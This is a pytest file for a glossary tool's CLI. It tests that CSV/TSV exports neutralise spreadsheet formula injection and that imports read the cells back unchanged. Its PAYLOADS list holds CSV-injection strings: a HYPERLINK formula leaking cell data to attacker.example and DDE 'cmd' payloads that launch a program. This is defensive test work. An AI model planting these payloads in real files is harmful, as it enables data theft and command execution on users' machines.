"""Class 4 of issue 20: exported CSV/TSV cells never run as spreadsheet formulas, and read back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from glossary.cli import cli
from memories.formats._cells import neutralize_cell, restore_cell
from tests.conftest import dump, shared

# OWASP's CSV-injection payloads, and texts that look like their neutralised form.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted by someone",
    "''-twice",
]


@pytest.mark.parametrize("text", [*PAYLOADS, "plain", "'plain apostrophe", "", "a=b", "'", "-"])
def test_restore_undoes_neutralize_and_no_neutralized_cell_starts_a_formula(text: str) -> None:
    safe = neutralize_cell(text)
    assert restore_cell(safe) == text
    assert not safe or safe[0] not in "=+-@\t\r"


@pytest.fixture
def hostile_table(tmp_path: Path) -> Path:
    """The starter termbase with hostile rows added: one per payload, the payload in the English column."""
    rows = shared("seeds", "diplomatic-terms.en-zh.tsv").read_text(encoding="utf-8").splitlines()
    path = tmp_path / "hostile.tsv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter="\t", lineterminator="\n")
        writer.writerow(rows[0].split("\t")[:2])
        for row in rows[1:6]:
            writer.writerow(row.split("\t")[:2])
        for n, payload in enumerate(PAYLOADS):
            writer.writerow([payload, f"恶意{n}"])
    return path


def _run(workspace: Path, *args: str | Path) -> str:
    result = CliRunner().invoke(cli, ["--workspace", str(workspace), *map(str, args)])
    assert result.exit_code == 0, result.output
    return result.output


def _cells(path: Path) -> list[str]:
    delimiter = "," if path.suffix == ".csv" else "\t"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("kind", ["--tm", "--termbase"])
@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_exports_neutralise_formulas_and_import_reads_them_back(
    tmp_path: Path, hostile_table: Path, kind: str, suffix: str
) -> None:
    first, second = tmp_path / "a.glossary", tmp_path / "b.glossary"
    _run(first, "import", "--force", kind, hostile_table)
    before = _dump(first)
    exported = tmp_path / f"out{suffix}"
    _run(first, "export", exported, *(["--termbase"] if kind == "--termbase" else []))
    assert _dump(first) == before  # an export changes nothing
    cells = _cells(exported)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + PAYLOADS[0] in cells
    # Our own import reads the neutralised cells back as they were: the same texts in a second workspace.
    _run(second, "import", "--force", kind, exported)
    assert _texts(second) == _texts(first)
    # An apostrophe before a formula character is the spreadsheets' own "this is text" mark, whoever wrote it.
    # (A termbase cell is split at | into synonyms, and its terms are stripped.)
    expected = {restore_cell(p) for p in PAYLOADS} if kind == "--tm" else {PAYLOADS[0], "@SUM(1+1)*cmd"}
    assert expected <= _texts(second)


def test_raw_cells_writes_them_as_they_are_for_pipelines(tmp_path: Path, hostile_table: Path) -> None:
    ws = tmp_path / "a.glossary"
    _run(ws, "import", "--force", "--tm", hostile_table)
    exported = tmp_path / "raw.tsv"
    _run(ws, "export", exported, "--raw-cells")
    assert {restore_cell(p) for p in PAYLOADS} <= set(_cells(exported))


def _dump(workspace: Path) -> list[str]:
    # SQLite's planner statistics (PRAGMA optimize at close) are not data.
    return [line for line in dump(workspace) if "sqlite_stat" not in line]


def _texts(workspace: Path) -> set[str]:
    import sqlite3

    conn = sqlite3.connect(workspace)
    try:
        texts = {row[0] for row in conn.execute("SELECT text FROM variant")}
        tables = {row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        if "term" in tables:
            texts |= {row[0] for row in conn.execute("SELECT text FROM term")}
        return texts
    finally:
        conn.close()
